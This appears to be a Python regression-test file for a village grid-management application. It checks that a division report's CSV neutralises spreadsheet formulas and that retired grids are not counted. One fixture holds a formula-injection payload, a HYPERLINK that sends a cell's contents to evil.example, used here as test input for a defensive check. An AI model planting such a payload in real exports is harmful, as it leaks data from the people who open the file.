"""Attacks on issue 19's services (party register, stations, WeChat groups, volunteers, staffing,
the grid division) as a careless clerk or a hostile user would make them (the attack round after the merge). Each
test failed while its defect stood. The round's other findings are in the issue's note, not yet
fixed."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest

from gridDesk import paths
from gridDesk.domain.division import SplitPlan
from gridDesk.domain.errors import GridDeskError
from gridDesk.domain.text import formula_like
from gridDesk.security.keycache import MemoryCache
from gridDesk.services.access import Access
from gridDesk.services.demo import build_demo
from gridDesk.services.division import DivisionService
from gridDesk.services.division_report import DivisionReportService, report_csv
from gridDesk.services.grids import GridService
from gridDesk.services.roster import RosterService
from tests.conftest import FakeClock


TODAY = datetime(2026, 12, 3, 10, 0)
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'


@pytest.fixture
def demo(tmp_path):
    """The demo village with its activity: party register, stations, volunteers, a vacancy 40 days
    open on the second grid, and its own split and merge of last year and this."""
    clock = FakeClock(TODAY.timestamp())
    make = lambda p: Access(p, paths.migrations_dir(), MemoryCache(), clock)  # noqa: E731
    summary = build_demo(tmp_path, paths.migrations_dir(), 300, make_access=make, with_activity=True)
    access = make(summary.db_path)
    session = access.login("demo", "Demo@2026")
    yield session, access
    session.close()


def _grids(session) -> list[str]:
    return [g.code for g in RosterService(session).tree() if g.parent_code is None]


def test_the_division_report_data_carries_no_live_formula(demo):
    """The yearly division report's CSV (division.csv, carried in the archive batch) writes the
    change's reason and document as typed: a reason of =HYPERLINK(...) is a live formula when the
    township opens the file in Excel. Every other CSV GridDesk writes neutralises such cells."""
    session, _access = demo
    division = DivisionService(session)
    first = _grids(session)[0]
    households, _places = division.contents(first)
    division.split(SplitPlan(first, ((GridService(session).next_code(), "第9网格（南片）",
                                      tuple(h[0] for h in households[:3]), ()),),
                             date(2026, 12, 1), LINK, "-2+3"))
    service = DivisionReportService(session)
    year = next(y for y in (2027, 2026) if _report_ok(service, y))
    cells = [c for row in csv.reader(io.StringIO(report_csv(service.report(year)).decode("utf-8-sig"))) for c in row]
    assert any(LINK in c for c in cells), "the reason is in the report"
    assert [c for c in cells if formula_like(c)] == []


def _report_ok(service, year) -> bool:
    try:
        report = service.report(year)
    except GridDeskError:
        return False
    return bool(report.changes)



def test_a_grid_the_division_retired_is_not_counted_as_a_grid(demo):
    """The demo's split grid was merged away this year, yet the dashboard and `status` said
    网格 5 with four in use, and listed the retired one with 0 households."""
    from gridDesk.domain.division import ChangeKind
    from gridDesk.services.dashboard import DashboardService
    from gridDesk.services.status import current_status

    session, _access = demo
    assert any(c.kind is ChangeKind.MERGE for c in DivisionService(session).history())  # one grid retired
    in_use = _grids(session)
    assert current_status(session).grids == len(in_use)
    assert {g.code for g in DashboardService(session).counts().per_grid} == set(in_use)
